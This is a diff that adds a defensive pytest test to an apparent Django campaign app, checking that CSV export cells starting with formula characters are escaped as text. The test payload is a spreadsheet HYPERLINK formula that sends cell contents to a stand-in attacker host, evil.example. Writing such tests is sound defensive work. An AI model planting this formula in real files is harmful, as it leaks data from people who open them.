@@ -67,6 +67,21 @@ def test_csv_export_streams_every_delivery(login, viewer, sent_campaign):
     assert len(lines) == 1 + 5
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(
+    login, viewer, sent_campaign, start
+):
+    import csv
+    import io
+
+    payload = start + 'HYPERLINK("https://evil.example/?"&A1,"Click")'
+    Delivery.objects.filter(run__campaign=sent_campaign).update(reason=payload)
+    response = login(viewer).get(f"/campaigns/{sent_campaign.pk}/report/deliveries.csv")
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert rows and all(row["reason"] == "'" + payload for row in rows)
+    assert all(row["id"].isdigit() for row in rows)  # numbers stay numbers
+
+
 def test_publisher_retries_failed_deliveries(login, approver, sent_campaign, fake_transport):
     response = login(approver).post(f"/campaigns/{sent_campaign.pk}/report/retry/")
     assert response.status_code == 302
